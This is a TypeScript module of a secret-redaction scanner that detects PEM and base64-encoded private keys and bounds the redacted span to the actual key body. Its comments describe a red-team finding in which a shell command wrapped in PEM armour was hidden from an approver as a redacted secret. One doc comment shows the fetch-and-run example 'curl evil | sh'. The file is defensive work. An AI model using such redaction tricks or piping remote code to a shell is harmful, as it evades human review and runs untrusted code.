// PEM private keys: a `-----BEGIN … PRIVATE KEY-----` line, then what a real key body is made
// of, and nothing else. Everything from BEGIN to the next END line was one secret before, so
// any text wrapped in the armour (a shell command in a `.profile`) reached an approver as one
// `[SECRET_1_…]` (red team c3); now the secret ends where the key body does.

import { codeAt, isAlnum, isDigit, isLower, isUpper } from "./chars.ts";

/** Longest body read, in UTF-16 units (a 16384-bit RSA key is about 12 Ki characters). */
export const PEM_MAX = 65536;
/** Fewest body characters that make a key (an Ed25519 PKCS #8 body has 64). */
const MIN_BODY = 16;
/** Shortest line of a body wrapped over several lines (writers wrap at 64, 70 or 76). */
const MIN_WRAP = 32;
/** Most armour header lines read. */
const MAX_HEADERS = 8;

const PEM_BEGIN = /^-----BEGIN ([A-Z0-9 ]{0,40}PRIVATE KEY(?: BLOCK)?)-----/;
/** An armour header line (RFC 1421, RFC 4880): `Name: value`, up to its line break. */
const HEADER = /^([A-Za-z][A-Za-z0-9-]{0,63}): ?[^\r\n\\]{0,200}/;
/** The RFC 1421 headers of an encrypted OpenSSL key, which are part of the key. */
const KEY_HEADER = /^(?:Proc-Type: ?4,ENCRYPTED|DEK-Info: ?[A-Za-z0-9-]{1,32},[0-9A-Fa-f]{8,64})$/;

/** A PEM private key found at a BEGIN line: the span that is secret. */
export interface PemSpan {
  /** Where the secret starts: the BEGIN line, or the body when armour headers precede it. */
  start: number;
  /** Where it ends: after the END line, or after the last body line when there is none. */
  end: number;
}

function isBase64(c: number): boolean {
  return isAlnum(c) || c === 43 /* + */ || c === 47; /* / */
}

/**
 * The length of the line break at `i`: a real one (`\n`, `\r\n`, `\r`) or one written as an
 * escape (`\n`, `\r\n` after one or more backslashes: a key in a `.env` or JSON file, or in
 * JSON inside JSON). At most 8 backslashes are read, so the look is bounded.
 */
function lineBreak(text: string, i: number): number {
  const c = codeAt(text, i);
  if (c === 10) return 1;
  if (c === 13) return codeAt(text, i + 1) === 10 ? 2 : 1;
  const n = escapedLetter(text, i, 110 /* n */);
  if (n > 0) return n;
  const r = escapedLetter(text, i, 114 /* r */);
  if (r === 0) return 0;
  const rn = escapedLetter(text, i + r, 110);
  return r + rn;
}

/** The length of backslashes (1 to 8) and then `letter` at `i`, or 0. */
function escapedLetter(text: string, i: number, letter: number): number {
  let j = i;
  while (j - i < 8 && codeAt(text, j) === 92 /* \ */) j++;
  return j > i && codeAt(text, j) === letter ? j + 1 - i : 0;
}

/** Past spaces, tabs and at most `breaks` line breaks from `i` (bounded by the text). */
function skipGap(text: string, i: number, breaks: number): number {
  for (;;) {
    const c = codeAt(text, i);
    if (c === 32 || c === 9) {
      i++;
      continue;
    }
    const n = breaks > 0 ? lineBreak(text, i) : 0;
    if (n === 0) return i;
    breaks--;
    i += n;
  }
}

/** Most characters of source syntax {@linkcode skipLineGap} reads between two key lines. */
const MAX_SYNTAX = 24;

/**
 * Past what may stand between two lines of a key as people paste it: spaces, at most `breaks`
 * line breaks (real, escaped or `<br>`), and the punctuation of source code around each line:
 * quotes and `+` or `,` of a string concatenated per line (`"MIIE…\n" +`), a comment marker
 * at the start of a line (`#`, `// `, `;`, `*`, `-- `, `>`). Punctuation only, at most
 * {@linkcode MAX_SYNTAX} characters of it: no word can hide between key lines (red team c3).
 */
function skipLineGap(text: string, i: number, breaks: number): number {
  let syntax = 0;
  let lineStart = false;
  for (;;) {
    const c = codeAt(text, i);
    if (c === 32 || c === 9) {
      i++;
      continue;
    }
    const n = breaks > 0 ? lineBreak(text, i) || brTag(text, i) : 0;
    if (n > 0) {
      breaks--;
      i += n;
      lineStart = codeAt(text, i - 1) === 10 || codeAt(text, i - 1) === 13;
      continue;
    }
    let k = 0;
    if (c === 34 || c === 39 || c === 96) k = 1;
    // `+` is base64 too: syntax only before a space, a quote or a line break (`"…\n" +`).
    else if ((c === 43 || c === 44) && endsJoin(text, i + 1)) k = 1;
    else if (lineStart) k = commentMarker(text, i);
    if (k === 0 || syntax + k > MAX_SYNTAX) return i;
    syntax += k;
    i += k;
  }
}

/** Whether a `+` or `,` before `i` joins two strings: a space, a quote or a line break follows. */
function endsJoin(text: string, i: number): boolean {
  const c = codeAt(text, i);
  return c === 32 || c === 9 || c === 34 || c === 39 || c === 96 || lineBreak(text, i) > 0;
}

/** The length of a `<br>`, `<br/>` or `<br />` at `i`, or 0. */
function brTag(text: string, i: number): number {
  if (
    codeAt(text, i) !== 60 || (codeAt(text, i + 1) | 32) !== 98 ||
    (codeAt(text, i + 2) | 32) !== 114
  ) {
    return 0;
  }
  let j = i + 3;
  if (codeAt(text, j) === 32) j++;
  if (codeAt(text, j) === 47) j++;
  return codeAt(text, j) === 62 ? j + 1 - i : 0;
}

/** The length of a line comment marker at `i` (`#`, `//`, `;`, `*`, `--`, `>`), or 0. */
function commentMarker(text: string, i: number): number {
  const c = codeAt(text, i);
  if (c === 35 || c === 59 || c === 42 || c === 62) return 1;
  // `/` is base64 too: a body line may begin `//`.
  if (c === 47 && codeAt(text, i + 1) === 47 && codeAt(text, i + 2) === 32) return 2;
  // `--` only before a space: `-----END` must stay an END line.
  if (c === 45 && codeAt(text, i + 1) === 45 && codeAt(text, i + 2) === 32) return 2;
  return 0;
}

/**
 * Whether the body line `text[from, to)` looks like base64 of random bytes: it mixes
 * capitals, small letters and digits (all three for a full line of a wrapped body, two for
 * a short one). Text that only uses the alphabet (`/tmp/run`, `reboot`) does not.
 */
function mixesClasses(text: string, from: number, to: number, all: boolean): boolean {
  let upper = 0, lower = 0, digit = 0;
  for (let i = from; i < to; i++) {
    const c = text.charCodeAt(i);
    if (isUpper(c)) upper = 1;
    else if (isLower(c)) lower = 1;
    else if (isDigit(c)) digit = 1;
  }
  return upper + lower + digit >= (all ? 3 : 2);
}

/**
 * The PEM private key whose `-----BEGIN ` is at `start`, or `undefined` when there is no key
 * body after it. A body is base64 lines (all as long as the first, the last one no longer;
 * `=` padding only at its end; a PGP `=XXXX` checksum line), separated by line breaks, real
 * or escaped, and spaces, each mixing capitals, small letters and digits as base64 of random
 * bytes does. RFC 1421 `Proc-Type`/`DEK-Info` headers belong to the key; other armour
 * headers (`Version:`, `Comment:`) are left outside the secret, which then starts at the
 * body. The END line belongs to it when it follows the body and names the same label. A
 * line that breaks these rules ends the body, so it and what follows are shown; a short last
 * line counts only before the END line or the end of the text (`…\ncurl evil | sh` shows
 * `curl`).
 *
 * Reads at most {@linkcode PEM_MAX} characters of body and a few header lines past `start`,
 * plus the white space after the body; a failed match reads only characters that cannot
 * start another BEGIN line, so a scan stays linear.
 */
export function matchPem(text: string, start: number): PemSpan | undefined {
  const begin = PEM_BEGIN.exec(text.slice(start, start + 80));
  if (begin === null) return undefined;
  let i = skipLineGap(text, start + begin[0].length, 2);
  // Armour headers, then one blank line.
  let otherHeaders = false;
  let headers = 0;
  while (headers < MAX_HEADERS) {
    const header = HEADER.exec(text.slice(i, i + 270));
    if (header === null) break;
    const after = i + header[0].length;
    const n = lineBreak(text, after);
    if (n === 0) break;
    if (!KEY_HEADER.test(header[0].trimEnd())) otherHeaders = true;
    i = after + n;
    headers++;
  }
  if (headers > 0) i = skipGap(text, i, 1);
  const body = scanBody(text, i);
  if (body === undefined) return undefined;
  const { ends, fullEnd } = body;
  const from = otherHeaders ? i : start;
  const close = `-----END ${begin[1]}-----`;
  const after = skipLineGap(text, ends, 2);
  if (text.startsWith(close, after)) return { start: from, end: after + close.length };
  // No END line: a short last line is the key's only at the end of the text.
  return { start: from, end: skipGap(text, ends, Infinity) === text.length ? ends : fullEnd };
}

/** A key body read by {@linkcode scanBody}. */
interface Body {
  /** End of the last line accepted (after its `=` padding or checksum line). */
  ends: number;
  /** End of the last line as long as the first. */
  fullEnd: number;
  /** Base64 characters accepted, padding included. */
  total: number;
}

/**
 * The base64 lines of a key body from `i` (see {@linkcode matchPem} for what a body is), or
 * `undefined` when there are fewer than 16 characters of it. When `segments` is given, each
 * line's `[start, end)` is pushed onto it (so the body can be decoded). Reads at most
 * {@linkcode PEM_MAX} characters of body and the gaps between its lines.
 */
function scanBody(text: string, i: number, segments?: number[]): Body | undefined {
  const bodyStart = i;
  let width = -1; // the first line's length
  let total = 0; // body characters accepted
  let ends = -1; // end of the last line accepted
  let fullEnd = -1; // end of the last line as long as the first
  let more = true; // the last line read was full: another may follow
  while (i - bodyStart < PEM_MAX) {
    if (codeAt(text, i) === 61 /* = */) {
      // A PGP checksum line (`=` and 4 base64 characters) after the body, or nothing.
      let j = i + 1;
      while (j < i + 6 && isBase64(codeAt(text, j))) j++;
      if (ends !== -1 && j === i + 5 && !isBase64(codeAt(text, j))) ends = j;
      break;
    }
    if (!more) break;
    let j = i;
    while (j < text.length && j - bodyStart < PEM_MAX && isBase64(text.charCodeAt(j))) j++;
    const dataEnd = j;
    while (j - dataEnd < 2 && codeAt(text, j) === 61) j++;
    const length = j - i;
    if (length === 0) break;
    if (width === -1) width = length;
    else if (width < MIN_WRAP || length > width) break;
    const full = length === width && j === dataEnd;
    if (!mixesClasses(text, i, dataEnd, full && width >= MIN_WRAP)) break;
    segments?.push(i, j);
    total += length;
    ends = j;
    if (full || fullEnd === -1) fullEnd = j;
    // A short or padded line is the last (only a checksum line may follow it).
    more = full;
    i = skipLineGap(text, j, 2);
  }
  if (ends === -1 || total < MIN_BODY) return undefined;
  return { ends, fullEnd, total };
}

/** What {@linkcode matchEncodedKey} found at a base64 run. */
export interface EncodedKeyMatch {
  /** The secret span, or `undefined` when the run is no private key. */
  span: PemSpan | undefined;
  /** Where the scan may resume: past every character this match read as key body. */
  resume: number;
}

/** Base64 of `-----BEGIN` at the start of a run: a PEM file encoded once more (Kubernetes `data:`). */
export const ENCODED_PEM_PREFIX = "LS0tLS1CRUdJTi";

/** Fewest base64 characters of a bare DER key body (an Ed25519 PKCS #8 key has 64). */
const MIN_DER = 64;

/**
 * A private key written as base64 without its armour, starting at `start`: the DER body on
 * one line or wrapped (`{"private_key": "MIIEvQIBADANBgkq…"}`, a `.pem` file with its BEGIN
 * line stripped), or a whole PEM file encoded in base64 once more (`tls.key: LS0tLS1CRUdJTi…`
 * in a Kubernetes Secret). A DER body must open with the ASN.1 header of a private key:
 * `SEQUENCE { INTEGER 0, SEQUENCE | INTEGER … }` (PKCS #8, PKCS #1 RSA and DSA) or
 * `SEQUENCE { INTEGER 1, OCTET STRING | SEQUENCE … }` (SEC 1 EC, PKCS #8 v2); certificates,
 * public keys and signatures open otherwise. An encoded PEM must decode to a PEM private key
 * that {@linkcode matchPem} accepts (so armour around a command is no key here either). The
 * span is base64 lines only, so it can hide no words. Reads at most {@linkcode PEM_MAX}
 * characters of body; `resume` is past them, so a scan that calls this at each candidate
 * stays linear.
 */
export function matchEncodedKey(text: string, start: number): EncodedKeyMatch {
  const none = { span: undefined, resume: start + 1 };
  const c = codeAt(text, start - 1);
  // Inside a longer token; an escaped line break (`\nMIIE…`) is not one.
  if (isBase64(c) && !(c === 110 && codeAt(text, start - 2) === 92)) return none;
  if (text.startsWith(ENCODED_PEM_PREFIX, start)) {
    const segments: number[] = [];
    const body = scanBody(text, start, segments);
    if (body === undefined) return none;
    let b64 = "";
    for (let k = 0; k < segments.length; k += 2) {
      b64 += text.slice(segments[k], segments[k + 1]).replace(/=+$/, "");
    }
    if (b64.length % 4 === 1) b64 = b64.slice(0, -1);
    let decoded: string;
    try {
      decoded = atob(b64);
    } catch {
      return { span: undefined, resume: body.ends };
    }
    const key = matchPem(decoded, 0);
    return { span: key ? { start, end: body.ends } : undefined, resume: body.ends };
  }
  const total = derKeyLength(text, start);
  if (total === 0) return none;
  const body = scanBody(text, start);
  if (body === undefined) return none;
  const expected = Math.ceil(total / 3) * 4;
  if (body.total < Math.min(MIN_DER, expected)) return { span: undefined, resume: body.ends };
  // A short last line is the key's when the header's length says so.
  const end = body.total <= expected ? body.ends : body.fullEnd;
  return { span: { start, end }, resume: body.ends };
}

/**
 * The length in bytes (header included) of the DER private key whose base64 starts at
 * `start`, read from its first 16 characters (12 bytes), or 0 when they are no private key's.
 */
function derKeyLength(text: string, start: number): number {
  const head = text.slice(start, start + 16);
  if (head.length < 16) return 0;
  for (let i = 0; i < 16; i++) if (!isBase64(head.charCodeAt(i))) return 0;
  const raw = atob(head);
  const b = (i: number) => raw.charCodeAt(i);
  if (b(0) !== 0x30) return 0;
  let h: number, length: number;
  if (b(1) < 0x80) [h, length] = [2, b(1)];
  else if (b(1) === 0x81 && b(2) >= 0x80) [h, length] = [3, b(2)];
  else if (b(1) === 0x82 && b(2) > 0) [h, length] = [4, (b(2) << 8) | b(3)];
  else return 0;
  // INTEGER version 0 or 1.
  if (b(h) !== 0x02 || b(h + 1) !== 0x01 || b(h + 2) > 1) return 0;
  const next = b(h + 3);
  if (b(h + 2) === 0) {
    // PKCS #8: AlgorithmIdentifier, a SEQUENCE opening with its OID; PKCS #1: the modulus.
    if (next === 0x30) {
      if (b(h + 4) >= 0x80 || b(h + 5) !== 0x06) return 0;
    } else if (next !== 0x02) return 0;
  } else if (next !== 0x04 && next !== 0x30) return 0; // SEC 1 private key octets, or PKCS #8 v2
  const total = h + length;
  return total >= 48 ? total : 0;
}
